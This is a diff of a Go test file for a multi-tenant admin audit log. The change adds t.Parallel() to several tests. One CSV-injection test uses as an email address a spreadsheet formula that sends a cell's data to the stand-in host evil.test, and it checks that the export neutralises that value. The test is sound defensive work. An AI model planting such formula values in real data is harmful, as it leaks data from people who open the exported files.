@@ -110,6 +110,7 @@ func involves(ev apiEvent, id int64) bool {
 }
 
 func TestAdminAuditFilters(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	at := func(ev apiEvent) time.Time { tm, _ := time.Parse(time.RFC3339, ev.Time); return tm }
 	for _, tc := range []struct {
@@ -168,6 +169,7 @@ func TestAdminAuditFilters(t *testing.T) {
 }
 
 func TestAdminAuditPage(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	// The console links to it.
 	if href, ok := f.admin.Get("/t/acme/admin").Doc().Find(`nav[aria-label="Admin console"] a:contains("Audit log")`).Attr("href"); !ok || href != "/t/acme/admin/audit" {
@@ -224,6 +226,7 @@ func walkPages(t *testing.T, c *apptest.Client, path string) []string {
 }
 
 func TestAdminAuditPaging(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	const n = 130
 	for i := range n {
@@ -287,6 +290,7 @@ func TestAdminAuditPaging(t *testing.T) {
 }
 
 func TestAdminAuditMemberForbidden(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	member := f.env.Client()
 	member.Login("acme", "alice@acme.test", pw)
@@ -308,6 +312,7 @@ func TestAdminAuditMemberForbidden(t *testing.T) {
 }
 
 func TestAdminAuditCrossWorkspace(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	var n int
 	f.env.Store.DB().QueryRow(`SELECT COUNT(*) FROM audit_events WHERE workspace_id = ? AND details LIKE '%"G%'`, f.globex.ID).Scan(&n)
@@ -389,6 +394,7 @@ func csvGet(c *apptest.Client, path, token string) *apptest.Response {
 }
 
 func TestAdminAuditCSV(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	// More rows than one export page, inserted in one statement.
 	const bulk = 1234
@@ -451,6 +457,7 @@ func TestAdminAuditCSV(t *testing.T) {
 
 // Cells a spreadsheet would run as formulas are neutralised.
 func TestAdminAuditCSVInjection(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	evil := `=HYPERLINK("http://evil.test/?"&A1,"click")@x.test`
 	u := f.env.User(f.acme, evil, db.RoleMember, "evil password 1")
@@ -509,6 +516,7 @@ func TestAdminAuditCSVInjection(t *testing.T) {
 }
 
 func TestAdminAuditBadInput(t *testing.T) {
+	t.Parallel()
 	f := newAuditFixture(t)
 	huge := strings.Repeat("a", 10000)
 	for name, query := range map[string]string{
